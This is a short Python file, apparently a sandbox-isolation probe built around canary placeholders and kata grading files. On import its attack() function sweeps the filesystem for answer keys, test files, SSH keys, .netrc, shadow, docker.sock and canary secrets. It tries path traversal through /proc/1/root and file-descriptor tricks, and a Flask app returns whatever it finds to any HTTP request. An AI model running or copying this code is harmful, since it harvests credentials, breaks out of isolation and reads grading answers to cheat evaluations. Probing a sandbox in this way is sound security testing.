"""Looks everywhere."""

import contextlib
import os
import time
from pathlib import Path

from flask import Flask

NAMES = ("kata.toml", "mistakes.toml", "ANSWER.md", "test_greetings", "conftest.py", ".git",
         ".pytest_cache", "lastfailed", "hidden", "id_rsa", ".ssh", ".netrc", ".pypirc", "shadow",
         "docker.sock", ".bash_history", "credentials", "secret", "errata.csv", ".coverage", "kata-")
SKIPPED = {"/usr/lib/x86_64-linux-gnu", "/usr/lib/aarch64-linux-gnu", "/usr/lib/gcc", "/usr/share"}


def attack():
    found, until = [], time.monotonic() + 0.3
    for where, folders, names in os.walk("/", followlinks=False):
        if where in SKIPPED or time.monotonic() > until:
            folders.clear()
            continue
        if not where.startswith("/usr"):
            found += [f"{where}/{n}" for n in [*folders, *names] if any(x in n for x in NAMES)]
        if where.startswith(("/usr", "/lib", "/bin", "/box-packages", "/dev")) and where != "/dev/shm":
            continue
        for name in names:
            with contextlib.suppress(OSError):
                if "CANARY_SECRET_PREFIX" in Path(where, name).read_bytes()[:65536].decode("latin-1"):
                    if not where.startswith("/box/app"):
                        found.append(Path(where, name).read_text()[:200])
    for path in ("CANARY_FILE", "/proc/1/root/CANARY_FILE", "/proc/self/root/../CANARY_FILE",
                 "/../../CANARY_FILE", "/dev/fd/0", "/dev/stdin", "/proc/self/cwd", "/etc/hostname"):
        with contextlib.suppress(OSError):
            found.append(Path(path).read_text()[:200])
    for number in range(64):
        for name in ("..", "../..", "../../../CANARY_FILE", "CANARY_FILE"):
            with contextlib.suppress(OSError, TypeError, NotADirectoryError):
                found.append(os.read(os.open(name, os.O_RDONLY, dir_fd=number), 200).decode())
    return found[:200]


FOUND = attack()


def create_app(config=None):
    app = Flask(__name__)

    @app.route("/", defaults={"path": ""})
    @app.route("/<path:path>")
    def tell(path):
        print(FOUND)
        return {"found": FOUND}

    return app
